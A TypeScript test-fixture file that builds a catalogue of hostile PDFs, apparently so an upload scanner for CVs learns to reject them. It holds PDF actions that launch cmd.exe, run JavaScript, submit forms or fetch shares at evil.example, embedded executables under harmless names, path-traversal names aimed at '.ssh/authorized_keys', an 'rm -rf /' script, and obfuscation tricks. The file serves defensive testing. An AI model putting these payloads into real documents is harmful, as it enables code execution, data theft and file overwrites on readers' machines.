import { docxFile, relationships, wordType } from '../../../support/docx';
import { attachedPdf, deflated, onePage, pdfOf, streamOf } from '../../../support/pdf/make';
import { withHarmlessEnd } from '../../../support/pdf/packings';
import { zip } from '../../../support/zip';
import type { Hostile } from './hostile';

type Reason = Hostile['because'];

function hostile(what: string, data: Buffer, because: Reason): Hostile {
  return { what: `a PDF ${what}`, name: 'cv.pdf', data, because };
}

/** With this behind a link on its page. */
function behindLink(action: string, others = {}): Buffer {
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [10 0 R] >>';
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`;
  return pdfOf(onePage('', { 3: page, 10: link, ...others }));
}

const actions: [because: Reason, links: Record<string, string>][] = [
  [
    'a script',
    {
      'a script': '<< /S /JavaScript /JS (app.alert(1)) >>',
      'a script in hexadecimal digits': '<< /S /JavaScript /JS <6170702e616c657274> >>',
      'a script under an escaped name': '<< /S /J#61vaScript /#4aS (app.alert(1)) >>',
      'a script in a film': '<< /S /Rendition /OP 0 /JS (app.alert(1)) >>',
      'a script after a page': '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>',
    },
  ],
  [
    'an order to start a program',
    {
      'an order to start a program': '<< /S /Launch /F (cmd.exe) >>',
      'an order to start a program, under an escaped name': '<< /S /La#75nch /F (cmd.exe) >>',
      'an order to start a program of Windows': '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
    },
  ],
  [
    'a form that sends',
    {
      'a form that sends': '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>',
    },
  ],
  [
    'an order to fetch data',
    {
      'data that is fetched': '<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\x.fdf) >>',
    },
  ],
  [
    'contains a program',
    {
      'a program in a film': '<< /S /RichMediaExecute /CMD << /C (play) >> >>',
    },
  ],
  [
    'an order to a part of the viewer',
    {
      'a command of the mail program': '<< /S /Named /N /AcroSendMail:SendMail >>',
      'a command of the debugger': '<< /S /Named /N /EScript:JSDebugger >>',
    },
  ],
  [
    'an action that we do not know',
    {
      'an action that nobody knows': '<< /S /OpenEverything >>',
      'an action whose type is a text': '<< /S (Launch) >>',
      'an action whose type is a number': '<< /S 1 >>',
      'an action whose type is a text, after a page':
        '<< /S /GoTo /D [3 0 R /Fit] /Next << /S (URI) /URI (https://x) >> >>',
    },
  ],
  [
    'a link to a file in a network',
    {
      'a document in a network': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
      'a document in a network, with slashes': '<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>',
      'a document in a network, in a specification':
        '<< /S /GoToE /F << /Type /Filespec /UF <feff005c005c0065005c0073> >> >>',
      'a document in a network, as an address': '<< /S /GoToR /F (file://evil.example/x.pdf) /D [0 /Fit] >>',
      'an article in a network': '<< /S /Thread /F (\\\\\\\\evil.example\\\\x.pdf) /D 0 >>',
    },
  ],
  [
    'leads to a program',
    {
      'a file in a network': '<< /S /URI /URI (file://evil.example/share) >>',
      'a share': '<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>',
      'a script in an address': '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
      'a script in an address with a line end': '<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>',
      'a script in an address in hexadecimal digits': '<< /S /URI /URI <6a6176617363726970743a31> >>',
      'a program of Windows': '<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>',
      'a share, percent-encoded': '<< /S /URI /URI (%5c%5cevil.example%5cshare) >>',
      'a share in an address, percent-encoded': '<< /S /URI /URI (file:%2f%2fevil.example%2fshare) >>',
      'a script in an address, percent-encoded': '<< /S /URI /URI (javascript%3aalert\\(1\\)) >>',
      'a program of Windows, percent-encoded twice': '<< /S /URI /URI (ms-msdt%253a/id) >>',
      'data in an address': '<< /S /URI /URI (data:text/html,x) >>',
    },
  ],
  [
    'a link to a program',
    {
      'a program beside the document': '<< /S /URI /URI (setup.exe) >>',
      'a program of the computer': '<< /S /GoToR /F (/C/Windows/System32/calc.exe) >>',
      'a program with a letter percent-encoded': '<< /S /URI /URI (file:///C:/Windows/System32/calc.ex%65) >>',
      'a program and the folder it is in': '<< /S /GoToR /F (/C/Users/a/setup.exe/.) >>',
    },
  ],
];

/** Actions that lead out of the document, each to where a click may lead, and that play something. */
const leaving = [
  ...['/GoToR /F (a.pdf)', '/GoToE /F (a.pdf)', '/Thread /F (a.pdf)', '/URI /URI (https://evil.example/)'],
  ...['/Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (x.mp4) >> >>', '/Movie /T (x)', '/Sound /Sound 10 0 R'],
  ...['/Named /N /Quit', '/Named /N /SaveAs', '/Named /N /AcroSendMail:SendMail', '/Named'],
];

const richFilm = (when: string) =>
  `<< /Subtype /RichMedia /RichMediaSettings << /Activation << /Condition ${when} >> >> >>`;
const inSpace = (when: string) => `<< /Subtype /3D /3DA << /A ${when} /DIS /I >> >>`;

const opened: [what: string, because: Reason, catalogue: string, others?: Record<number, string | Buffer>][] = [
  ['runs a script when opened', 'a script', '/OpenAction << /S /JavaScript /JS (x) >>'],
  [
    'runs a script in a stream when opened',
    'a script',
    '/OpenAction << /S /JavaScript /JS 10 0 R >>',
    { 10: streamOf('x') },
  ],
  ['calls home when opened', 'opens by itself', '/OpenAction << /S /URI /URI (https://evil.example/) >>'],
  [
    'calls home after a page is shown',
    'opens by itself',
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://x.example/) >>] >>',
  ],
  [
    'shows what is attached by a program of its own',
    'contains a program',
    '/Collection << /Type /Collection /View /C /Navigator 10 0 R >>',
    {
      10: '<< /Type /Navigator /SWF (nav.swf) /Resources << /Names [(nav.swf) 11 0 R] >> >>',
      11: streamOf('CWS', '/Type /EmbeddedFile'),
    },
  ],
  [
    'brings a show with scripts of its own',
    'a show in the place of its pages',
    '/Names << /AlternatePresentations << /Names [(show) 10 0 R] >> >>',
    {
      10: '<< /Type /SlideShow /Subtype /Embedded /Resources << /Names [(a.html) 11 0 R] >> /StartResource (a.html) >>',
      11: streamOf('<script>alert(1)</script>'),
    },
  ],
  ['calls home when it is closed', 'opens by itself', '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>'],
  [
    'has a list of scripts',
    'a script',
    '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>',
    { 10: '<< /S /JavaScript /JS (x) >>' },
  ],
  ...[
    ['as a script of the document', '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>'],
    ['as one of several', '/Names << /JavaScript << /Kids [<< /Names [(a) 10 0 R] >>] >> >>'],
    ['beside an empty list', '/Names << /JavaScript << /Names [] /Kids [<< /Names [(a) 10 0 R] >>] >> >>'],
    ['when it is opened', '/OpenAction 10 0 R'],
    ['when it is closed', '/AA << /WC 10 0 R >>'],
    ['after a page is shown', '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>'],
  ].flatMap(([when, catalogue = '']) =>
    ['', '/Subtype /Image', '/PatternType 1'].map((keys): (typeof opened)[number] => [
      `runs ${when} a stream (${keys}) that does not say of what type it is`,
      'a script',
      catalogue,
      { 10: '<< /JS 11 0 R >>', 11: streamOf('app.alert(1)', keys) },
    ]),
  ),
  ...leaving.flatMap((action): typeof opened => [
    [`follows ${action} when opened`, 'opens by itself', `/OpenAction << /S ${action} >>`],
    [`follows ${action} when a slide is turned`, 'opens by itself', `/PresSteps << /NA << /S ${action} >> >>`],
    [`follows ${action} when it is closed`, 'opens by itself', `/AA << /WC << /S ${action} >> >>`],
    [`follows ${action} when a button is pressed`, 'a button that opens', `/AA << /D << /S ${action} >> >>`],
    [
      `follows ${action} behind what a button does when it is let go`,
      'a button that opens',
      `/AA << /U << /S /Hide /Next << /S ${action} >> >> >>`,
    ],
    [
      `follows ${action} when the pointer passes`,
      'opens by itself',
      `/AA << /E << /S ${action} >> /D << /S ${action} >> >>`,
    ],
  ]),
  [
    'has files beside an attached one',
    'files that belong to an attached one',
    '',
    { 10: '<< /F (a.txt) /RF << >> >>' },
  ],
  ['was fetched from a share', 'leads to a program', '', { 10: '<< /S /SPS /URL (file://evil.example/) >>' }],
  [
    'has an unknown action that belongs to nothing',
    'an action that we do not know',
    '',
    { 10: '<< /Type /Action /S /X >>' },
  ],
  ...['/PO', '/PV', '/Unknown', '(PO)', '11 0 R'].flatMap((when): (typeof opened)[number][] => [
    [`has a rich film that starts with ${when}`, 'opens by itself', '', { 10: richFilm(when), 11: '/PV' }],
    [`has a picture in space that starts with ${when}`, 'opens by itself', '', { 10: inSpace(when), 11: '/PV' }],
  ]),
  ['has when a film starts by itself', 'opens by itself', '', { 10: '<< /Condition /PV >>' }],
  ['has when a picture in space starts by itself', 'opens by itself', '', { 10: '<< /A /PO /DIS /I >>' }],
  [
    'has a rich film that starts by another object',
    'opens by itself',
    '',
    { 10: '<< /Subtype /RichMedia /RichMediaSettings << /Activation 11 0 R >> >>', 11: '<< /Condition /X >>' },
  ],
  ['has scripts for a rich film', 'a script', '', { 10: '<< /Type /RichMediaActivation /Scripts [(a.js)] >>' }],
  [
    'has a link with an unknown older action',
    'an action that we do not know',
    '',
    { 10: '<< /PA << /S /OpenEverything >> >>' },
  ],
  ['counts all links from a share', 'a base address', '/URI << /Base (file://evil.example/) >>'],
  [
    'has a script with its three-dimensional picture',
    'a script',
    '',
    { 10: streamOf('U3D', '/Type /3D /Subtype /U3D /OnInstantiate 11 0 R'), 11: streamOf('x') },
  ],
  [
    'has its page in a network',
    'parts that stand in another file',
    '',
    { 10: '<< /Length 0 /F (//evil.example/x) >>\nstream\n\nendstream' },
  ],
  ['has a script that belongs to nothing', 'a script', '', { 10: '<< /S /JavaScript /JS (x) >>' }],
];

const template = '<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform>';
const script = '<event activity="initialize"><script contentType="application/x-javascript">x</script></event>';
const forms: [what: string, xfa: string, others: Record<number, string | Buffer>][] = [
  ['with a script', '10 0 R', { 10: streamOf(`${template}${script}</subform></template>`) }],
  [
    'with a script under a prefix',
    '10 0 R',
    { 10: streamOf('<t:template xmlns:t="x"><t:script>x</t:script></t:template>') },
  ],
  [
    'that sends',
    '10 0 R',
    { 10: deflated(`${template}<event><submit target="https://x.example/"/></event></subform></template>`) },
  ],
  ['in UTF-16', '10 0 R', { 10: streamOf(Buffer.from(`\ufeff${template}${script}</subform></template>`, 'utf16le')) }],
  [
    'in parts',
    '[(a) 10 0 R (b) 11 0 R]',
    { 10: streamOf(`${template}<event><scr`), 11: streamOf('ipt>x</script></event></subform></template>') },
  ],
  [
    'before a harmless one, with a wrong checksum',
    '10 0 R',
    {
      10: streamOf(withHarmlessEnd(`${template}${script}</subform></template>`, '<a/>'), '/Filter /FlateDecode'),
    },
  ],
  ...Object.entries({
    'whose part is elsewhere': '<subform usehref="http://evil.example/x.xdp#som($template.a)"/>',
    'with a picture elsewhere': '<draw><value><image href="http://evil.example/x.png"/></value></draw>',
    'with a picture in a network': '<draw><value><image x:href="\\\\evil.example\\x.png"/></value></draw>',
    'with a control': '<exObject classId="clsid:x" codeBase="http://evil.example"/>',
    'that asks a database': '<source><connect><connectString>Driver=x;SERVER=e</connectString></connect></source>',
    'with an order to a database': '<source><command><query><select>exec xp</select></query></command></source>',
    'with a schema elsewhere': '<xsdConnection><uri>http://evil.example/</uri></xsdConnection>',
    'with a schema in a network': '<xsdConnection><uri> &#92;\\evil.example\\x.xml</uri></xsdConnection>',
    'with a schema in a network, in pieces': '<uri>C:<x/>\\\\evil.example\\x</uri>',
    'with a schema in a network, in a section': '<uri><![CDATA[\\\\evil.example\\x]]></uri>',
    'with its base elsewhere':
      '<config><present><common><template><base>http://e/</base></template></common></present></config>',
    'with a style sheet': '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
  }).map(([what, xml]): (typeof forms)[number] => [what, '10 0 R', { 10: streamOf(`<xdp>${xml}</xdp>`) }]),
  ['that signs by itself', '10 0 R', { 10: streamOf(`${template}<event><signData/></event></subform></template>`) }],
  ['that is a text', `(${template}${script}</subform></template>)`, {}],
  ['that is a text behind many blanks', `(${' '.repeat(16_400)}${template}${script}</subform></template>)`, {}],
  ['that is a text in a list', `[(template) (${template}${script}</subform></template>)]`, {}],
  ['that is not to be read', '10 0 R', { 10: streamOf('<template><subform') }],
  ['packed in an unknown way', '10 0 R', { 10: streamOf('x', '/Filter /Unknown') }],
];

/** Whose template is elsewhere. */
function remoteSheet(): Buffer {
  const remote = relationships(['attachedTemplate', 'http://evil.example/x', 'External']);
  return docxFile(
    { 'word/embeddings/a.docx': docxFile({ 'word/_rels/settings.xml.rels': remote }) },
    { docx: wordType },
  );
}

const svgWithDefault =
  '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>';

/** A text under another name in the list of attached files. */
function listedPdf(name: string, data: string | Buffer, attached = 'x.txt'): Buffer {
  const key = name.endsWith(' R') ? name : `(${name})`;
  return pdfOf(
    onePage('/Names << /EmbeddedFiles << /Kids [12 0 R] >> >>', {
      10: `<< /Type /Filespec /F (${attached}) /EF << /F 13 0 R >> >>`,
      11: '(run.bat)',
      12: `<< /Limits [(a) (z)] /Names [${key} 10 0 R] >>`,
      13: deflated(data, '/Type /EmbeddedFile'),
    }),
  );
}

const doctype =
  '<?xml version="1.0"?><!DOCTYPE x SYSTEM "https://evil.example/x"><x:xmpmeta xmlns:x="adobe:ns:meta/"/>';
const vastDrawing = `<svg xmlns="http://www.w3.org/2000/svg"><!--${'x'.repeat(25 * 1024 * 1024)}--></svg>`;
const script1 = pdfOf(onePage('/OpenAction << /S /JavaScript /JS (x) >>'));
const programs: [what: string, file: Buffer, because: Reason][] = [
  ...[
    'exe',
    'EXE',
    'js',
    'jse',
    'vbs',
    'wsf',
    'hta',
    'lnk',
    'scr',
    'msi',
    'jar',
    'ps1',
    'docm',
    'iso',
    'url',
    'library-ms',
  ].map((end): (typeof programs)[number] => [`attached as x.${end}`, attachedPdf(`x.${end}`, 'x'), 'may be a program']),
  ['attached as x.swf', attachedPdf('x.swf', 'x'), 'no CV needs'],
  ['attached as x.exe with a blank behind', attachedPdf('x.exe ', 'x'), 'may be a program'],
  ['listed as run.exe, attached as x.txt', listedPdf('run.exe', 'x'), 'may be a program'],
  ['listed as run.bat by reference, attached as x.txt', listedPdf('11 0 R', 'x'), 'may be a program'],
  ['listed as x.html, attached as x.txt', listedPdf('x.html', 'x'), 'web page'],
  ['listed as x.pdf, attached as x.txt', listedPdf('x.pdf', 'x'), 'what its name says'],
  ['listed as x.psd1, attached as x.psd', listedPdf('x.psd1', Buffer.from('8BPS'), 'x.psd'), 'no CV needs'],
  ['listed as x.txt.386, attached with a dot behind', listedPdf('x.txt.386', 'x', 'x.txt.'), 'no CV needs'],
  ['listed as y.txt10, attached as x.txt', listedPdf('y.txt10', 'x'), 'no CV needs'],
  ['listed as x.txt10a, attached as x.txt', listedPdf('x.txt10a', 'x'), 'no CV needs'],
  ['listed as x.txt10, attached as x.txt, one inside', listedPdf('x.txt10', 'MZ\x90\0'), 'embedded program'],
  ['listed as x.pdf2, attached as x.pdf, a text inside', listedPdf('x.pdf2', 'x', 'x.pdf'), 'what its name says'],
  ['listed as x.exe2, attached as x.exe', listedPdf('x.exe2', 'x', 'x.exe'), 'may be a program'],
  ['listed as run.exe with a zero behind', listedPdf('run.exe\\000', 'x'), 'may be a program'],
  ['attached as run.exe with a zero behind', attachedPdf('run.exe\\000', 'x'), 'may be a program'],
  ['attached under two names', attachedPdf('x.txt', 'x', '/DOS (x.exe)'), 'may be a program'],
  [
    'attached as x.txt, a program inside',
    attachedPdf('x.txt', Buffer.from('MZ\x90\0\x03', 'latin1')),
    'embedded program',
  ],
  [
    'attached as x.png, a program inside',
    attachedPdf('x.png', Buffer.from('\x7fELF\x02\x01', 'latin1')),
    'embedded program',
  ],
  ...[doctype, Buffer.from(`\ufeff${doctype}`, 'utf16le')].map((xmp, index): (typeof programs)[number] => [
    `whose metadata names what a reader of XML may fetch, ${index}`,
    pdfOf(onePage('/Metadata 10 0 R', { 10: deflated(xmp, '/Type /Metadata /Subtype /XML') })),
    'an order to fetch data',
  ]),
  ['with a drawing of more XML than any has', attachedPdf('x.xml', vastDrawing), 'too large'],
  ['attached without an end, a script inside', attachedPdf('run', '#!/bin/sh\nrm -rf /'), 'embedded program'],
  [
    'attached as x.txt, a shortcut inside',
    attachedPdf('x.txt', Buffer.from('L\0\0\0\x01\x14\x02\0\0\0', 'latin1')),
    'embedded program',
  ],
  ['attached as x.html with a script', attachedPdf('x.html', '<html><script>alert(1)</script></html>'), 'web page'],
  [
    'attached as x.xml, a drawing with a handler',
    attachedPdf('x.xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'web page',
  ],
  ['attached as x.xml with a style sheet', attachedPdf('x.xml', '<?xml-stylesheet href="x.xsl"?><x/>'), 'web page'],
  [
    'attached as x.xlsx with macros',
    attachedPdf('x.xlsx', zip([{ name: 'xl/vbaProject.bin', data: 'x' }])),
    'no CV needs',
  ],
  ['attached as x.docx that is a program', attachedPdf('x.docx', Buffer.from('MZ')), 'embedded program'],
  ['in an attached PDF', attachedPdf('x.pdf', script1), 'a script'],
  ['in a PDF that is attached to an attached one', attachedPdf('x.pdf', attachedPdf('y.pdf', script1)), 'a script'],
  [
    'in the ninth of PDFs in one another',
    Array.from({ length: 9 }).reduce<Buffer>((inner) => attachedPdf('a.pdf', inner), pdfOf(onePage())),
    'files within files',
  ],
  [
    'in an attached .docx',
    attachedPdf('x.docx', docxFile({ 'word/a.bin': 'MZ' }, { bin: 'application/octet-stream' })),
    'embedded program',
  ],
  ['in a worksheet of an attached .docx', attachedPdf('x.docx', remoteSheet()), 'fetched from elsewhere'],
  ['in an archive attached as x.zip', attachedPdf('x.zip', zip([{ name: 'a/b.js', data: 'x' }])), 'may be a program'],
  [
    'attached as x.html, behind the end of a comment of HTML',
    attachedPdf('x.html', '<p><!--><script>x</script>--></p>'),
    'web page',
  ],
  [
    'attached as x.html, behind a section of XML',
    attachedPdf('x.html', '<p><![CDATA[><script>x</script>]]></p>'),
    'web page',
  ],
  ['attached as x.html, without any script', attachedPdf('x.html', '<p>x</p>'), 'web page'],
  [
    'attached as x.html, behind a style sheet',
    attachedPdf('x.html', '<style></style><a></a>\n<style>x</style>'),
    'web page',
  ],
  ...[
    '@import "//evil.example/x.css";',
    'p { background: url(//evil.example/x) }',
    '@\\69mport "//evil.example"',
  ].flatMap((style): [string, Buffer, Reason][] => [
    [`attached as x.html, a style sheet with ${style}`, attachedPdf('x.html', `<style>${style}</style>`), 'web page'],
    [
      `attached without an end, a style sheet with ${style}`,
      attachedPdf('x', `<style>${style}</style>`),
      'no CV needs',
    ],
  ]),
  ['attached as x.xml, a drawing with a handler by default', attachedPdf('x.xml', svgWithDefault), 'web page'],
  ['attached as x.pdf that is broken', attachedPdf('x.pdf', '%PDF-1.7'), 'locked or broken'],
];

const programBeforeText = pdfOf(
  onePage('/AF [10 0 R]', {
    10: '<< /Type /Filespec /F (x.txt) /EF << /F 11 0 R >> >>',
    11: streamOf(withHarmlessEnd('MZ', 'x'), '/Type /EmbeddedFile /Filter /FlateDecode'),
  }),
);

const utf16 = (text: string) => `<${Buffer.from(`\ufeff${text}`, 'utf16le').swap16().toString('hex')}>`;
const inLatin = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;

/** Names and addresses that other programs cut, or of which they leave something out. */
const cut: [what: string, text: string][] = [
  'run.bat\x1b.txt',
  'run.bat\0.txt',
  'r.\x1ben\x1bbat.txt',
  '\x1ben\x1b//evil.example/x',
  // What is read of a text ends among the zeros.
  `run.bat${'\0'.repeat(20_000)}.txt`,
].flatMap((text): [string, string][] => [
  [`${JSON.stringify(text).slice(0, 40)} in UTF-16`, utf16(text)],
  [`${JSON.stringify(text).slice(0, 40)} in single bytes`, inLatin(text)],
]);

/** A text with what the list of attached files calls it, and with its own names. */
const attaching = (key: string, names: string, data = 'x') =>
  pdfOf(
    onePage(`/Names << /EmbeddedFiles << /Names [${key} 10 0 R] >> >>`, {
      10: `<< /Type /Filespec ${names} /EF << /F 11 0 R >> >>`,
      11: deflated(data, '/Type /EmbeddedFile'),
    }),
  );

/** Names that lead out of the folder into which somebody saves all files of a document. */
const leadingOut = [
  ...['../x.txt', '../.ssh/authorized_keys.txt', 'a/../../x.txt', './x.txt', '..\\x.txt', 'a\\..\\x.txt', 'a/..'],
  ...['/tmp/x.txt', '\\x.txt', 'C:\\Users\\x.txt', 'c:x.txt', '~/x.txt', '~rahim/x.txt'],
];

const elsewhereOnDisk: Hostile[] = leadingOut.flatMap((name) => [
  hostile(`with a file attached as ${name}`, attaching('(a.txt)', `/F ${inLatin(name)}`), 'in another folder'),
  hostile(
    `with a file attached as a.txt and ${name}`,
    attaching('(a.txt)', `/F (a.txt) /UF ${utf16(name)}`),
    'in another folder',
  ),
  hostile(`with a file listed as ${name}`, attaching(inLatin(name), '/F (a.txt)'), 'in another folder'),
]);

/** Lists of films, links and calendars, which desktops know by their first words. */
const knownByContent = ['#EXTM3U\nhttp://evil.example/a', '[Desktop Entry]\nExec=calc', 'BEGIN:VCALENDAR', 'Just text'];

const withoutEnd: Hostile[] = knownByContent.flatMap((text) => [
  hostile(
    `with ${JSON.stringify(text)} attached without an end`,
    attaching('(a)', '/F (letter)', text),
    'what its name says',
  ),
  hostile(
    `with ${JSON.stringify(text)} listed without an end and attached under no name`,
    attaching('(letter)', '', text),
    'what its name says',
  ),
]);

const unseen: Hostile[] = cut.flatMap(([what, text]) => {
  return [
    hostile(`with a file attached as ${what}`, attaching('(a.txt)', `/F (a.txt) /UF ${text}`), 'cannot be seen'),
    hostile(`with a file listed as ${what}`, attaching(text, '/F (a.txt)'), 'cannot be seen'),
    hostile(`with a link to a document called ${what}`, behindLink(`<< /S /GoToR /F ${text} >>`), 'cannot be seen'),
    hostile(`with a link to ${what}`, behindLink(`<< /S /URI /URI ${text} >>`), 'cannot be seen'),
  ];
});

export const activePdfs: Hostile[] = [
  ...elsewhereOnDisk,
  ...withoutEnd,
  ...unseen,
  ...actions.flatMap(([because, links]) =>
    Object.entries(links).map(([what, action]) => hostile(`that links to ${what}`, behindLink(action), because)),
  ),
  ...opened.map(([what, because, catalogue, others]) =>
    hostile(`that ${what}`, pdfOf(onePage(catalogue, others)), because),
  ),
  ...forms.map(([what, xfa, others]) =>
    hostile(`with a form in XML ${what}`, pdfOf(onePage(`/AcroForm << /XFA ${xfa} >>`, others)), 'a form with scripts'),
  ),
  hostile('with a program attached before a text, with a wrong checksum', programBeforeText, 'damaged'),
  ...programs.map(([what, file, because]) => hostile(`with a program ${what}`, file, because)),
];
